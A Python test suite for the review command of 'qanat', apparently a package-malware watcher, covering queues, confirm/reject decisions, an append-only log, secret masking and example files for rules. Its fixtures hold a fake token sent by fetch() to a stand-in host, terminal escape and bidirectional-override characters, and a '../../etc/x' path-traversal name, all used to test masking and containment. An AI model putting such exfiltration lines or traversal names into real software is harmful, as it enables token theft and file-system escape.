"""qanat review: what waits for a person, what people decide, and what follows from it."""
import glob
import json
import os
import sqlite3

from seenlib import ask, harmless, make, ROOT, rule, run, sent
from tap import done, ok, put, Run, scratch

ENV = {"QANAT_USER": "jo"}
TOKEN = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5"


def review(state, *args, **kw):
    return run(state, "review", *args, env=kw.pop("env", ENV), **kw)


def queue(state, *args):
    return [v["name"] for v in review(state, "list", "--format", "json", *args).json["versions"]]


def shown(state, what):
    return review(state, "show", what, "--format", "json").json


def usage(d):
    state = make(f"{d}/usage", [harmless("a"), sent("thief")])
    r = review(f"{d}/none", "list")
    ok(r.code == 2 and b"nothing was watched yet" in r.err, "without a store it says so", r)
    wrong = ((("frob",), b"frob"), (("list", "x"), b"too many"), (("show",), b"usage"), (("show", "a"), b"NAME@VERSION"),
             (("show", "@acme/a"), b"NAME@VERSION"), (("show", "b@1.0.0"), b"not seen"), (("confirm",), b"about what"),
             (("reject", "a@1.0.0"), b"nothing to reject"), (("note", "a@1.0.0"), b"usage"), (("note", "a@1.0.0", " "), b"says something"),
             (("confirm", "a@1.0.0", "--by", "x\ny"), b"one line"), (("confirm", "a@1.0.0", "--by", "x" * 101), b"100 bytes"),
             (("confirm", "a@1.0.0", "--as", "clean"), b"clean"), (("note", "a@1.0.0", "x" * 2001), b"2000 bytes"),
             (("note", "a@1.0.0", "a\x1b[2J"), b"one line"), (("confirm", "a@1.0.0", "--example", d), b"--example is for"),
             (("log", "--since", "then"), b"--since then"), (("list", "--watch-policy", f"{d}/none.yaml"), b"none.yaml"))
    for args, says in wrong:
        r = review(state, *args)
        ok(r.code == 2 and says in r.err and not r.out, f"review {' '.join(args)[:40]!r} is refused", r)
    bad = put(f"{d}/bad.yaml", "bands:\n  automtic: 3\n")
    r = review(state, "list", "--watch-policy", bad)
    ok(r.code == 2 and b"bad.yaml:2" in r.err and b"automatic" in r.err, "a mistake in the policy is told with its line", r)
    ok(ask(state, "SELECT count(*) FROM review") == [(0,)], "nothing of that is on record")


def deciding(d):
    state = make(f"{d}/deciding", [harmless("a"), sent("thief"), sent("other", "2.0.0", "sha512-CCCC")])
    low = put(f"{d}/low.yaml", "bands: {automatic: never}\n")
    ok(queue(state, "--watch-policy", low) == ["other", "thief"], "what is malicious waits where nothing is automatic", queue(state))
    r = review(state, "confirm", "thief@1.0.0", "--reason", "sends keys")
    ok(r.code == 0 and not r.out, "confirm says nothing", r)
    ok(queue(state, "--watch-policy", low) == ["other"], "and takes it from the queue")
    ok(queue(state, "--watch-policy", low, "--all") == ["other", "thief"], "--all has it still")
    e = shown(state, "thief@1.0.0")["effective"]
    ok(e == {"verdict": "malicious", "decided": True, "why": "jo has confirmed it as malicious: sends keys"}, "who and why", e)
    review(state, "reject", "other@2.0.0", "--by", "Kim <kim@example.invalid>", env={})
    e = shown(state, "other@2.0.0")
    ok(e["effective"]["verdict"] == "clean" and e["verdict"] == "malicious" and "Kim" in e["effective"]["why"],
       "a rejected verdict stays on record and counts for nothing", e)
    review(state, "note", "other@2.0.0", "asked the author")
    log = review(state, "log", "--format", "json").json["decisions"]
    ok([(v["who"], v["action"], v["name"], v["verdict"]) for v in log] == [
        ("jo", "confirm", "thief", "malicious"), ("Kim <kim@example.invalid>", "reject", "other", "malicious"),
        ("jo", "note", "other", "malicious")], "the log has all of it in order", log)
    ok(log[0]["rules"] and all(v["time"].startswith("20") for v in log), "what it was about, and when", log)
    r = review(state, "log", "other")
    ok(r.code == 0 and b"asked the author" in r.out and b"thief" not in r.out, "the log of one package", r)
    r = review(state, "log", "--since", "2100-01-01")
    ok(r.code == 0 and b"nobody has decided" in r.out, "and of a time", r)
    r = review(state, "confirm", "a@1.0.0", "nowhere@1.0.0")
    ok(r.code == 2 and ask(state, "SELECT count(*) FROM review") == [(3,)], "of several all are decided or none", r)
    r = review(state, "confirm", "a@1.0.0", "--as", "suspicious")
    ok(shown(state, "a@1.0.0")["effective"]["verdict"] == "suspicious", "what no rule found a person may confirm", r)
    r = review(state, "reject", "a@1.0.0")
    ok(r.code == 0 and shown(state, "a@1.0.0")["effective"]["verdict"] == "clean", "and take back", r)


def append_only(d):
    state = make(f"{d}/append", [sent("thief")])
    review(state, "confirm", "thief@1.0.0")
    db = sqlite3.connect(f"{state}/watch.db")
    refused = 0
    for sql in ("DELETE FROM review", "UPDATE review SET who = 'nobody'"):
        try:
            db.execute(sql)
        except sqlite3.DatabaseError:
            refused += 1
    db.close()
    ok(refused == 2, "the store neither changes nor forgets a decision")


def reopened(d):
    state = make(f"{d}/reopened", [sent("thief")])
    review(state, "reject", "thief@1.0.0", "--reason", "its own tests")
    ok(queue(state) == [], "what was rejected does not wait")
    r = run(state, "judge", "--all", "--rules", rule(d, "more", "malicious", "{event: net.send, phase: any}"))
    e = shown(state, "thief@1.0.0")["effective"]
    ok(queue(state) == ["thief"] and e["verdict"] == "malicious" and "more was found since" in e["why"], "a new finding brings it back", e)
    r = review(state, "list")
    ok(b"again: new finding" in r.out, "the queue says why", r)
    review(state, "reject", "thief@1.0.0")
    ok(queue(state) == [] and shown(state, "thief@1.0.0")["effective"]["verdict"] == "clean", "that can be rejected, too")
    # other bytes under the same name
    make(state, [sent("thief", integrity="sha512-ZZZZ")])
    e = shown(state, "thief@1.0.0")["effective"]
    ok(e == {"verdict": "malicious", "decided": False, "why": "nobody has decided about it"}, "a decision is about certain bytes", e)


def showing(d):
    state = make(f"{d}/showing", [sent("thief", text=f"fetch('https://c.example.invalid/?t={TOKEN}') // \x1b[2J\u202e"),
                                  sent("evil\x1b[2J\u202e", "1.0.0", "sha512-EEEE")])
    r = review(state, "show", "thief@1.0.0", "--explain")
    text = r.out.decode()
    ok(r.code == 0 and "MALICIOUS" in text and "index.js:5:2" in text and "nobody has decided" in text, "verdict and evidence", r)
    ok(TOKEN not in text and "***" in text, "secrets are masked", r)
    ok("\x1b" not in text and "\u202e" not in text and "c.example.invalid" not in text, "text from packages is escaped and defanged", r)
    r = review(state, "show", "thief@1.0.0", "--format", "json")
    doc = r.json
    ok(TOKEN not in r.out.decode() and doc["report"]["schema"] == "qanat.check/1" and doc["report"]["results"][0]["findings"],
       "JSON holds the report", r)
    ok(doc["history"][0]["verdict"] == "malicious" and doc["findings"][0]["rule"], "and the history", r)
    review(state, "note", "thief@1.0.0", f"its token is {TOKEN}")
    r = review(state, "show", "thief@1.0.0")
    ok(TOKEN not in r.out.decode() and b"what people said" in r.out and b"its token is ***" in r.out, "notes are shown, masked", r)
    r = review(state, "list", "--all")
    ok(b"\x1b" not in r.out and "\u202e" not in r.out.decode() and r.out.count(b"\n") == 2, "the list is safe to print", r)
    db = sqlite3.connect(f"{state}/watch.db")
    db.execute("DELETE FROM events")
    db.commit()
    db.close()
    r = review(state, "show", "thief@1.0.0")
    ok(r.code == 0 and b"not kept any more" in r.out, "without its events the rest is shown", r)
    r = review(state, "reject", "thief@1.0.0", "--example", d)
    ok(r.code == 2 and b"not kept any more" in r.err and shown(state, "thief@1.0.0")["decisions"][-1]["action"] == "note",
       "and no example can be made, nor a decision that wants one", r)


def example(d):
    state = make(f"{d}/example", [sent("@acme/thief", text=f"send('{TOKEN}')"), sent("../../etc/x", "1.0.0", "sha512-FFFF")])
    r = review(state, "reject", "@acme/thief@1.0.0", "--example", f"{d}/nowhere")
    ok(r.code == 2 and ask(state, "SELECT count(*) FROM review") == [(0,)], "the directory has to be there", r)
    os.makedirs(f"{d}/examples")
    r = review(state, "reject", "@acme/thief@1.0.0", "--example", f"{d}/examples", "--reason", "sends its own key")
    files = sorted(os.path.relpath(f, f"{d}/examples") for f in glob.glob(f"{d}/examples/**/*.ndjson", recursive=True))
    ok(r.code == 0 and files and all(f.endswith("/good-acme_thief-1.0.0.events.ndjson") for f in files), "an example of each rule", files)
    rules = {f.split("/")[0] for f in files}
    text = open(f"{d}/examples/{files[0]}").read()
    ok(TOKEN not in text and "***" in text, "without secrets", text)
    r = review(state, "reject", "@acme/thief@1.0.0", "--example", f"{d}/examples")
    ok(r.code == 0 and b"is there already" in r.err, "the same example is written once", r)
    review(state, "reject", "../../etc/x@1.0.0", "--example", f"{d}/examples")
    names = {os.path.relpath(f, f"{d}/examples").split("/", 1)[1] for f in glob.glob(f"{d}/**/*.ndjson", recursive=True)
             if f.startswith(f"{d}/examples")}
    ok("good-.._.._etc_x-1.0.0.events.ndjson" in names and not os.path.exists(f"{d}/etc"), "no name leads out of it", names)

    one = sorted(rules)[0]
    both = ("--examples", f"{ROOT}/tests/rules", "--examples", f"{d}/examples")
    r = Run("rules", "test", one, *both)
    ok(r.code == 1 and b"good-acme_thief-1.0.0.events.ndjson: the rule matches a good example" in r.out,
       "until the rule is mended its test fails", r)
    r = Run("rules", "test", one, "--examples", f"{ROOT}/tests/rules")
    ok(r.code == 0, "without that example it passes", r)
    put(f"{d}/clean/{one}/good-b.events.ndjson", "".join(json.dumps(line) + "\n" for line in harmless("b")))
    r = Run("rules", "test", one, "--examples", f"{ROOT}/tests/rules", "--examples", f"{d}/clean")
    ok(r.code == 0, "examples of several directories come together", r)
    r = Run("rules", "test", one, "--examples", f"{d}/clean")
    ok(r.code == 1 and b"no bad example" in r.out, "one directory alone must have both kinds", r)
    put(f"{d}/broken/{one}/good-c.events.ndjson", "{\"schema\":\"qanat.events/1\"}\n{\"event\":\"nonsense\"}\n")
    r = Run("rules", "test", one, "--examples", f"{ROOT}/tests/rules", "--examples", f"{d}/broken")
    ok(r.code == 1 and b"good-c.events.ndjson" in r.out, "an example that is none fails the test", r)


with scratch() as d:
    for part in (usage, deciding, append_only, reopened, showing, example):
        part(d)
done()
